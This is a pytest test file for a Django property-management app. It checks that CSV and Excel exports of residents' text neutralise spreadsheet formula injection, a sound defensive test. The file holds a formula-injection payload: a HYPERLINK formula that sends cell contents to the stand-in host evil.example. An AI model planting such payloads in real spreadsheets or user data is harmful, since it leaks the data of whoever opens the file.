"""Every CSV and Excel export writes its cells through core.exports (issue 16 item 9): a
resident's words that a spreadsheet would run as a formula arrive as the words typed — in CSV
with a leading apostrophe (OWASP), in Excel as a text cell with Excel's quote prefix."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from propdesk.callbacks import services as callback_services
from propdesk.callbacks import visits
from propdesk.core import exports
from propdesk.stats import reports
from propdesk.stats.models import MonthlyReport
from propdesk.tickets.tests.helpers import register, walk
from propdesk.worktime.arithmetic import SHANGHAI

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
PROPDESK = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_starting_like_a_formula_gets_an_apostrophe(start):
    assert exports.csv_value(start + "1+1 楼上漏水") == "'" + start + "1+1 楼上漏水"


def test_other_csv_cells_are_left_as_they_are():
    assert exports.csv_value("楼上漏水 = 严重") == "楼上漏水 = 严重"
    assert exports.csv_value(-3) == -3 and exports.csv_value(2.5) == 2.5
    assert exports.csv_value(None) == ""
    at = datetime(2026, 9, 9, 2, 0, tzinfo=UTC)
    assert exports.csv_value(at) == "2026-09-09 10:00"  # Shanghai wall-clock time


def test_an_excel_cell_keeps_the_words_as_text_and_numbers_as_numbers():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append(exports.xlsx_row(sheet, [FORMULA, "-楼上漏水", -3, "正常\x07文字"]))
    row = next(load_workbook(io.BytesIO(exports.workbook_bytes(book)))["t"].iter_rows())

    assert [c.value for c in row] == [FORMULA, "-楼上漏水", -3, "正常文字"]
    assert [c.data_type for c in row] == ["s", "s", "n", "s"]
    assert [bool(c.quotePrefix) for c in row] == [True, True, False, False]


def test_no_module_writes_a_spreadsheet_but_the_one_writer():
    """A new export must use core.exports: nothing else builds CSV or saves a workbook."""
    pattern = re.compile(r"csv\.writer|csv\.DictWriter|text/csv|WriteOnlyCell|\.save\((out|data)")
    offenders = [
        str(path.relative_to(PROPDESK))
        for path in PROPDESK.rglob("*.py")
        if "tests" not in path.parts
        and path != PROPDESK / "core" / "exports.py"
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# Each export path, over HTTP, with a resident's text that looks like a formula.


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Disposition"].startswith("attachment")
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(response) -> list:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Disposition"].startswith("attachment")
    book = load_workbook(io.BytesIO(response.content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def _assert_neutralised_csv(response) -> None:
    cells = [c for c in _csv_cells(response) if "HYPERLINK" in c]
    assert cells and all(c == "'" + FORMULA for c in cells)


def _assert_neutralised_xlsx(response) -> None:
    cells = [c for c in _xlsx_cells(response) if "HYPERLINK" in str(c.value or "")]
    assert cells
    for cell in cells:
        assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_ticket_list_export(world, client, now, fmt):
    register(world, now, description=FORMULA)
    client.force_login(world.supervisor)

    response = client.get("/exports/tickets/", {"queue": "all", "format": fmt})

    (_assert_neutralised_csv if fmt == "csv" else _assert_neutralised_xlsx)(response)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_defect_list_export(world, client, fmt):
    at = datetime(2026, 5, 6, 10, tzinfo=SHANGHAI)
    register(
        world, at, category="DEV-A1", description=FORMULA, grade_facts={"complainant_count": 3}
    )
    client.force_login(world.manager)

    response = client.get("/reports/defects/", {"year": 2026, "format": fmt})

    (_assert_neutralised_csv if fmt == "csv" else _assert_neutralised_xlsx)(response)


def test_the_monthly_report_workbook(world, client):
    """A major complaint's description is in the report's last sheet."""
    register(
        world,
        datetime(2026, 9, 5, 10, tzinfo=SHANGHAI),
        grade_facts={"major_accident": True},
        description=FORMULA,
    )
    reports.generate_month(2026, 9, now=datetime(2026, 10, 3, 2, tzinfo=SHANGHAI))
    report = MonthlyReport.objects.get(scope_kind="project", scope_code="SZHY")
    assert any(c["description"] == FORMULA for c in report.major_complaints)
    client.force_login(world.manager)

    _assert_neutralised_xlsx(client.get(f"/reports/{report.pk}/xlsx/"))


def test_the_callback_records_export(world, client):
    """回访记录: the resident's own words in the callback's comment."""
    at = timezone.now() - timedelta(hours=3)
    ticket = walk(world, at, "resolved")
    callback_services.record_callback(
        world.agent, ticket, satisfaction="satisfied", comment=FORMULA, now=at + timedelta(hours=1)
    )
    client.force_login(world.supervisor)
    since = timezone.localtime(at).date().isoformat()
    today = timezone.localtime().date().isoformat()

    response = client.get("/callbacks/records/", {"from": since, "to": today, "format": "csv"})

    _assert_neutralised_csv(response)


def test_the_routine_visit_records_export(world, client):
    """业户例行回访调查记录表: what the household said was lacking and suggested."""
    plan = visits.generate_plan(world.supervisor, world.project, 2026)
    visits.record_visit(
        world.agent,
        plan.households.get().pk,
        method="phone",
        service_quality="satisfied",
        staff_attitude="satisfied",
        shortcomings=FORMULA,
        suggestions=FORMULA,
    )
    client.force_login(world.supervisor)

    response = client.get(f"/visits/{plan.pk}/records/", {"format": "csv"})

    _assert_neutralised_csv(response)
